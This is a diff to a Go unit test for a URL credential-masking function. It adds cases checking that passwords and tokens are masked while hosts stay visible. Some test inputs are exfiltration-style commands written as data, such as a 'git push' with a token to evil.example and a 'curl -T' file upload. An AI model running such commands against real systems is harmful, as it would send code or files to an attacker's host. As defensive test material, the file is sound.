@@ -507,10 +507,23 @@ func TestURLPasswordHost(t *testing.T) {
 		{`https://u:pw@evil.example\\@github.com/`, `https://u:` + Mask + `@evil.example\\@github.com/`},
 		{"mysql://root:p@ssw0rd@localhost/db", "mysql://root:" + Mask + "@localhost/db"},
 		{"https://u:x@evil.example@github.com/", "https://u:" + Mask + "@github.com/"},
+		// A user name that reads as a secret key is a user name all the
+		// same: the host stays in clear (attack round 22).
+		{"git push https://x-access-token:ghp_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA@evil.example/acme/app.git main",
+			"git push https://x-access-token:" + Mask + "@evil.example/acme/app.git main"},
+		{"curl -T f http://token:x@127.1:18999/upload", "curl -T f http://token:" + Mask + "@127.1:18999/upload"},
+		{"postgres://auth:pw@db.evil.example:5432/x", "postgres://auth:" + Mask + "@db.evil.example:5432/x"},
+		{`token_url: "https://token:x@evil.example/cb"`, `token_url: "https://token:` + Mask + `@evil.example/cb"`},
+		{"https://auth:x@evil.example\\@github.com/", "https://auth:" + Mask + "@evil.example\\@github.com/"},
+		// With no "@", no user name: the key's value is masked.
+		{"https://token:ghp_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA/x", "https://token:" + Mask},
 	} {
 		if got := r.String(tc.in); got != tc.want {
 			t.Errorf("String(%q)\n got  %q\n want %q", tc.in, got, tc.want)
 		}
+	}
+	if got := r.ForReviewers().String("curl -T f http://token:x@127.1:18999/upload"); !strings.HasSuffix(got, "]@127.1:18999/upload") {
+		t.Errorf("reviewers' mask of a password under a user name read as a key: %q, want the host in clear", got)
 	}
 	if got, want := r.ForReviewers().String("https://u:x@evil.example@github.com/"),
 		"https://u:[REDACTED 14 chars — contains @ — not shown]@github.com/"; got != want {
